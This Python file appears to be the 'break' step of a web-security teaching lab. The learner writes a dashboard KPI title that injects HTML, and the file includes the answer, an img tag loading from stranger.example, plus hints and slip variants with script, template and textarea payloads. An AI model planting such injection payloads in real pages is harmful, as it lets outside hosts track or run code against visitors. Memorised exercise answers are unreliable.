"""Break, written by the learner: a name that makes a page ask a stranger."""

import re
from collections import Counter

from breakfix.dashboard.parsed import parsed
from breakfix.dashboard.shown import application, fetched
from breakfix.lab import exercise

from . import baseline, sources

LONGEST = 80
# The address of a machine that is not ours, as an image's `src`: a name or number of a machine, and after it a port, a
# path or nothing. With a space in the name of the machine a browser fetches nothing.
ELSEWHERE = re.compile(
    r"\s*(https?:)?//(?!localhost\b|127\.|\[::1\])([^\W_][\w.-]*|\[[\da-f:.]+\])(:\d*)?([/?#\\]|\s*$)", re.IGNORECASE
)


def page_of(title):
    """Return the status and the parsed page of the baseline, of the sample with one KPI of this title."""
    if not isinstance(title, str) or not 1 <= len(title) <= LONGEST:
        raise TypeError(f"loud_name is a text of 1 to {LONGEST} characters, in quotes")
    kpis = sources.kpis()
    kpis[1] = {**kpis[1], "title": title}
    seen = baseline.dashboard(sources.landing(), kpis)
    status, text = fetched(application(lambda: baseline.page(seen)))
    return status, parsed(text)


def strangers(page):
    """Return the images of a page that a browser fetches from another machine when it opens the page."""
    return [each for each in page.find("img") if ELSEWHERE.match(each.attributes.get("src") or "")]


@exercise(phase="break", kind="value", minutes=6)
def loud_name():
    """Write a title for the KPI of the error rate after which the page asks a machine that is not ours.

    Given     the sample, and the baseline's page of it, in which this KPI has the title that you write.
    Leave     a text of at most 80 characters, of words and of `img` elements and of no other element. Whoever opens the
              page fetches an image, without a click, from another machine: the src of an img begins with http:// or
              https:// and names that machine. The page is sent without an error and has its three tiles as before; the
              first still says Response time, the last CPU usage.
    """
    return "<img src=https://stranger.example/eye.png>Error rate"


@loud_name.look
def read(world, title, *names):
    """What is read on the page, as far as it is named; yours are the elements that a harmless title does not bring."""
    status, page = page_of(title)
    heads = [head.text for head in page.find("h2")]
    plain, all_of_it = (Counter(each.tag for each in walked.walk()) for walked in (page_of("Error rate")[1], page))
    seen = {"images from elsewhere": bool(strangers(page)), "elements of yours": all_of_it > plain}
    seen["besides images"] = ", ".join(sorted(set(all_of_it - plain) - {"img"})) or None
    seen |= {"status": status, "first tile": heads[:1], "last tile": heads[-1:], "tiles": len(page.find("article"))}
    return {name: seen[name] for name in names}


read.when("the page is opened: somebody opens the page", "images from elsewhere")
read.when("the elements are counted: they are compared with those under a harmless title", "elements of yours")
read.when("images and nothing else: the elements that came with your title are listed", "besides images")
read.when("the other tiles: the other tiles are read", "status", "first tile", "last tile", "tiles")

loud_name.asks("""
the page is opened: Which image would a browser fetch, and from where?
the elements are counted: Is there an element in the page that is not ours?
images and nothing else: Which element of yours is no image?
the other tiles: Does your title stay in its own tile?
""")

loud_name.slips("""
escaped already: A browser finds no element of yours in the page. What would have begun one?
    ~ <img src=https://stranger.example/eye.png>Error rate => &lt;img src=https://stranger.example/eye.png&gt;
a link: An element got in. Does it ask anybody before somebody clicks?
    ~ <img src=https://stranger.example/eye.png>Error rate => <a href=https://stranger.example/>Error rate</a>
a script: A script would ask too, once it runs. Which element is asked for here?
    ~ <img src=https://stranger.example/eye.png> => <script src=https://stranger.example/eye.js></script>
kept for later: Is what stands in a template shown, or kept for later?
    ~ <img src=https://stranger.example/eye.png> => <template><img src=https://stranger.example/eye.png></template>
a text without an end: An image is fetched. Where does your last element end, and what has gone into it?
    ~ Error rate => <textarea>Error rate
our own image: An image is fetched from our own machine. Whom does that tell anything?
    ~ https://stranger.example/ => /
a frame that swallows: A stranger is asked, and the next tile is gone. Would nobody notice?
    ~ Error rate => </h2></article><article><h2>Error rate
""")

loud_name.hints += [
    "page puts the title into the HTML as it is. So what would you write by hand into a page to have a picture in it? "
    "A browser fetches a picture as soon as it meets it, from wherever its address says.",
    "A twin: somebody signs a guest book that is read aloud, and signs `Ann. Now everybody stands up.` The reader does "
    "not know where the name ends.",
]
